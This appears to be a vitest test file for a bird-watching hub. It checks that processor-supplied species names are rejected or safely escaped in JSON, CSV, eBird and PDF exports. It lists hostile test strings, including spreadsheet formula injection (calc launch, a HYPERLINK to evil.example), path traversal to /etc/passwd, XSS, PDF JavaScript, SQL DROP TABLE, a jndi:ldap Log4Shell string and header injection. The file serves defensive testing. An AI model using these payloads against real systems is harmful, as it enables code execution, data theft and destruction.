import type { TestHub } from '@birdhub/testing/hub';
import { beforeAll, describe, expect, it } from 'vitest';
import { findEbirdViolations } from '../../services/reports/src/testing/ebird-rules.js';
import { readPdf } from '../../services/reports/src/testing/read-pdf.js';
import { inOneProcess, startHubIn, useDataFolder } from '../e2e/fixtures/temporary-hub.js';
import { exchange, type HttpResponse } from './fixtures/exchange.js';

/** Names that processors may post, but that spreadsheets, file systems or terminals could misread. */
const accepted = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example","x")',
  '+1+1',
  '-2+3',
  '@SUM(1)',
  'Tit "quoted", with comma',
  '../../etc/passwd',
  '..\\..\\windows',
  'con.mp4',
  'tit\u202Egnp.exe',
  'tit\u2028next',
  '<script>alert(1)</script>',
  '(Tit) Tj ET /JS (app.alert(1))',
  "'; DROP TABLE species; --",
  `\${jndi:ldap://evil}{{7*7}}`,
  '🐦‍⬛',
  'Sýkora koňadra',
  'شحرور',
];
const refused = ['\0', 'a\0b', 'a\nb', 'a\r\nSet-Cookie: x', 'a\tb', '\u200B', ' ', '\uD800'];
const folder = useDataFolder();
const day = 'date=2026-05-01';
let hub: TestHub;

function post(name: string, index: number): Promise<HttpResponse> {
  const start = Date.parse('2026-05-01T06:00:00Z') + index * 600_000;
  const body = {
    processor_version: 'x',
    start_time: new Date(start).toISOString(),
    end_time: new Date(start + 10_000).toISOString(),
    video_path: `names/${index}.mp4`,
    species: [{ species_name: name, confidence: 0.9, start_time: 0, end_time: 5, source: 'video' }],
  };
  return send('POST', '/api/processor/videos', JSON.stringify(body));
}

const send = (method: string, path: string, body?: string) =>
  exchange(hub.baseUrl, { method, path, headers: { 'content-type': 'application/json' }, body });
const read = async (path: string) => (await send('GET', path)).body.toString();

/** Names are stored with single plain spaces. */
const kept = accepted.map((name) => name.replaceAll(/\s+/gu, ' ')).sort();

/** Cells of a row by RFC 4180. */
const cellsOf = (row: string) =>
  [...row.matchAll(/(?:^|,)(?:"((?:[^"]|"")*)"|([^,]*))/g)].map(
    ([, quoted, plain = '']) => quoted?.replaceAll('""', '"') ?? plain,
  );

beforeAll(async () => {
  hub = await startHubIn(folder, inOneProcess);
  const responses = await Promise.all(accepted.map(post));
  expect(responses.map(({ status }) => status)).toEqual(accepted.map(() => 201));
});

describe('hostile names', () => {
  it.each(refused)('%j, is refused with its path', async (name) => {
    const response = await post(name, 500);
    const { details } = JSON.parse(response.body.toString());
    expect([response.status, details[0].path]).toEqual([400, '/species/0/species_name']);
  });

  it('in JSON, are unchanged', async () => {
    const items: { species: { name: string } }[] = JSON.parse(await read(`/api/ui/timeline?${day}`));
    expect(items.map(({ species }) => species.name).sort()).toEqual(kept);
  });

  it('in CSV, are one cell of one row each and no formula', async () => {
    const rows = (await read(`/api/ui/timeline/export?format=csv&${day}`)).trimEnd().split('\r\n').slice(1);
    expect(rows).toHaveLength(accepted.length);
    const names = rows.map((row) => cellsOf(row)[1] ?? '');
    for (const name of names) expect(name).not.toMatch(/^[=+\-@\t\r]/);
    expect(names.map((name) => name.replace(/^'(?=[=+\-@])/, '')).sort()).toEqual(kept);
  });

  it('in the eBird file, follow its rules and start no formula', async () => {
    const file = await read(`/api/ui/timeline/export?format=ebird&${day}`);
    expect(findEbirdViolations(file)).toEqual([]);
    expect(file).not.toMatch(/^[=+@-]/m);
  });

  it('in the report, are text and neither scripts nor links', async () => {
    const response = await send('GET', '/api/ui/report/pdf?month=2026-05');
    expect(response.status).toBe(200);
    expect(response.body.toString('latin1')).not.toMatch(
      /\/JavaScript|\/JS\b|\/Launch|\/OpenAction|\/URI\s*\(http:\/\/evil/,
    );
    const { text } = await readPdf(response.body);
    expect(text).toContain('DROP TABLE');
  });
});
